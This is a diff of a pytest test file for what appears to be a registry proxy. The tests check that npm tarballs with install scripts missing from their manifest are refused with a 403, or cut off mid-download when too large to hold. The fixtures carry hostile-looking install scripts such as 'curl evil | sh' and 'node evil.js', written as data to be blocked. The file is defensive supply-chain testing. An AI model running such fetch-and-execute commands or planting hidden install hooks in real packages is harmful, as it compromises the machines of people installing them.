@@ -2,8 +2,9 @@
 manifest without scripts and ships a tarball whose own package.json has a `postinstall`.
 
 The rule judges the manifest, but yarn 1 runs the package.json inside the tarball, so the relay
-reads the tarball's own files too where the rule applies, and cuts the download before its end
-when they run code at install (`npm.tarscripts`).
+reads the tarball's own files too where the rule applies (`npm.tarscripts`). A tarball of at
+most `relay.HOLD_AT_MOST` bytes is withheld until the scan's verdict, so a refusal is a 403
+with the rule and the reason; a larger one is cut before its end.
 """
 
 from __future__ import annotations
@@ -16,12 +17,15 @@ import subprocess
 from pathlib import Path
 
 import aiohttp
+import pytest
 from structlog.testing import capture_logs
 
 from mirrorgate.rules import parse_rules
+from mirrorgate.serve import relay
 from tests.serve.rig import RunningProxy, StartProxy
+from tests.servers.client_config import CONTACT, LOCKED_DENIED_SAYS, says
 from tests.servers.fixture_registry import Fault, FixtureRegistry
-from tests.servers.package_managers import client
+from tests.servers.package_managers import CLIENTS, client
 from tests.servers.packages import (
     FixtureVersion,
     build_tarball,
@@ -56,6 +60,15 @@ async def install_with_scripts(tool: str, proxy: RunningProxy, tmp_path: Path,
     manager.write_project(dependencies)
     flags = [flag for flag in manager.isolation() if flag != "--ignore-scripts"]
     return await asyncio.to_thread(manager.run, "install", *flags)
+
+
+async def refused(proxy: RunningProxy, path: str) -> str:
+    """The reason of the 403 a download the scan refused answers, before any byte of it."""
+    answer = await proxy.get(path)
+    assert answer.status == 403, answer.body[:200]
+    assert answer.json()["rule"] == "install-scripts"
+    reason: str = answer.json()["reason"]
+    return reason
 
 
 async def read_cut(proxy: RunningProxy, path: str) -> bytes:
@@ -125,8 +138,31 @@ async def test_npm_never_runs_the_postinstall_of_a_dependency_bundled_in_the_tar
     assert "node_modules/inner: postinstall" in line["reason"]
 
 
-async def test_the_download_is_cut_before_its_end_and_the_reason_logged(
+async def test_hidden_scripts_are_a_403_with_the_rule_and_the_reason_at_the_first_pull(
         public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
+    # withheld until the scan's verdict: the client reads why, not a reset npm prints as
+    # "network aborted"
+    version = confused("confused-first", {"scripts": {"preinstall": "curl evil | sh"}},
+                       **{"filler.bin": bytes(range(256)) * 2048})
+    public_registry.add(make_package("confused-first", [version]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+
+    with capture_logs() as logs:
+        first = await proxy.get("npm/confused-first/-/confused-first-1.0.0.tgz")
+
+    assert first.status == 403
+    assert first.json()["rule"] == "install-scripts"
+    assert "preinstall" in first.json()["reason"]
+    assert "as its registry manifest declares" not in first.json()["reason"]  # confusion
+    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
+    assert line["security"] is True
+    assert await proxy.jobs() == []
+
+
+async def test_a_tarball_too_large_to_withhold_is_cut_before_its_end_and_then_refused(
+        public_registry: FixtureRegistry, start_proxy: StartProxy,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(relay, "HOLD_AT_MOST", 1024)  # the fixture tarball is larger
     version = confused("confused-cut", {"scripts": {"preinstall": "curl evil | sh"}},
                        **{"filler.bin": bytes(range(256)) * 2048})
     public_registry.add(make_package("confused-cut", [version]))
@@ -135,7 +171,7 @@ async def test_the_download_is_cut_before_its_end_and_the_reason_logged(
     with capture_logs() as logs:
         body = await read_cut(proxy, "npm/confused-cut/-/confused-cut-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert len(body) < len(version.tarball)  # streamed, then cut before its last chunk
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert line["security"] is True
     assert line["rule"] == "install-scripts"
@@ -156,9 +192,9 @@ async def test_a_binding_gyp_counts_as_an_install_script(
     proxy = await start_proxy(public_registry.url, rules=BLOCK)
 
     with capture_logs() as logs:
-        body = await read_cut(proxy, "npm/confused-gyp/-/confused-gyp-1.0.0.tgz")
+        reason = await refused(proxy, "npm/confused-gyp/-/confused-gyp-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "binding.gyp" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert "binding.gyp" in line["reason"]
 
@@ -190,9 +226,9 @@ async def test_public_bytes_standing_in_for_a_failed_private_copy_are_read_too(
         proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)
 
         with capture_logs() as logs:
-            body = await read_cut(proxy, "npm/confused-fallback/-/confused-fallback-1.0.0.tgz")
+            reason = await refused(proxy, "npm/confused-fallback/-/confused-fallback-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "install" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert "install" in line["reason"]
 
@@ -207,9 +243,9 @@ async def test_a_mirrored_copy_in_the_private_registry_is_read_too(
         proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)
 
         with capture_logs() as logs:
-            body = await read_cut(proxy, "npm/confused-mirrored/-/confused-mirrored-1.0.0.tgz")
+            reason = await refused(proxy, "npm/confused-mirrored/-/confused-mirrored-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "postinstall" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert line["upstream"] == "private"
 
@@ -227,8 +263,72 @@ async def test_a_mirrored_copy_asked_for_once_public_fails_is_read_too(
         public_registry.fault(tarball_path("confused-late", "1.0.0"), Fault(status=503))
 
         with capture_logs() as logs:
-            body = await read_cut(proxy, "npm/confused-late/-/confused-late-1.0.0.tgz")
+            reason = await refused(proxy, "npm/confused-late/-/confused-late-1.0.0.tgz")
 
-    assert body != version.tarball
+    assert "postinstall" in reason
     [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
     assert line["upstream"] == "private"
+
+
+def hidden_hook(name: str) -> FixtureVersion:
+    """A version whose manifest shows no scripts and whose tarball (about 600 KB, as a real
+    package with a bundled build) runs a postinstall."""
+    return confused(name, {"scripts": {"postinstall": "node evil.js"}},
+                    **{"dist/bundle.js": b"".join(b"var a%d = %d;\n" % (i, i * 7919)
+                                                  for i in range(40_000))})
+
+
+async def install_without_scripts(tool: str, proxy: RunningProxy, tmp_path: Path,
+                                  dependencies: dict[str, str]) -> tuple[int, str]:
+    manager = client(tool, tmp_path / tool)
+    manager.configure(proxy.registry)
+    manager.write_project(dependencies)
+    done = await asyncio.to_thread(manager.install)
+    return done.returncode, done.stdout + "\n" + done.stderr
+
+
+@pytest.mark.parametrize("tool", list(CLIENTS))
+async def test_every_client_shows_the_scans_refusal_as_a_403_naming_the_rule_not_a_reset(
+        tool: str, public_registry: FixtureRegistry, start_proxy: StartProxy,
+        tmp_path: Path) -> None:
+    # no lockfile: the packument admits the version (its manifest runs nothing), and the
+    # first pull of its tarball is withheld until the scan's verdict; the refusal reads as
+    # every other, with the way through (a clean 1.2.0, the operator to ask)
+    public_registry.add(make_package("hidden-hook", [hidden_hook("hidden-hook"),
+                                                     make_version("hidden-hook", "1.2.0")]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK, operator_contact=CONTACT)
+
+    code, said = await install_without_scripts(tool, proxy, tmp_path, {"hidden-hook": "1.0.0"})
+
+    assert code != 0
+    assert says(LOCKED_DENIED_SAYS[tool], proxy.registry, "hidden-hook", "1.0.0",
+                "install-scripts") in said, said
+    assert "ECONNRESET" not in said
+    assert "aborted" not in said
+
+
+CUT_SAYS = {
+    # retries off: npm and pnpm print the reset; yarn 1 and bun retry on their own and meet
+    # the 403 the remembered verdict answers; yarn 4 prints the abort
+    "npm": "network aborted",
+    "pnpm": "ECONNRESET",
+    "yarn1": 'Request failed "403 Forbidden"',
+    "yarn4": "The server aborted pending request",
+    "bun": "hidden-big-1.0.0.tgz - 403",
+}
+
+
+@pytest.mark.parametrize("tool", list(CLIENTS))
+async def test_past_the_hold_limit_every_client_fails_on_the_cut_download(
+        tool: str, public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    # what docs/serving.md#a-refusal-from-the-bytes says each client prints past 16 MiB
+    monkeypatch.setattr(relay, "HOLD_AT_MOST", 1024)
+    public_registry.add(make_package("hidden-big", [hidden_hook("hidden-big")]))
+    proxy = await start_proxy(public_registry.url, rules=BLOCK)
+
+    code, said = await install_without_scripts(tool, proxy, tmp_path, {"hidden-big": "1.0.0"})
+
+    assert code != 0
+    assert CUT_SAYS[tool] in said, said
+    assert not (tmp_path / tool / "node_modules" / "hidden-big" / "package.json").exists()
